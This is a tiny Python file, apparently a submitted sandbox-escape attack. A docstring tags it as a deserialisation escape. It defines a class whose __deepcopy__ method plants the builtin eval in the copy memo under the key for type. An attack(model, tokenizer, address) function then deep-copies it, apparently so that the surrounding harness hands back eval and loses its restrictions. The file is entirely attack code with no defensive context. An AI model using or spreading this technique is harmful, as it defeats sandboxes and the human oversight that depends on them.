"""Class: deserialisation. Source: own find. Escape: __deepcopy__ is handed the memo."""

import copy


class A:
    def __deepcopy__(self, memo):
        memo[id(type)] = eval
        return eval


def attack(model, tokenizer, address):
    return copy.deepcopy(A())
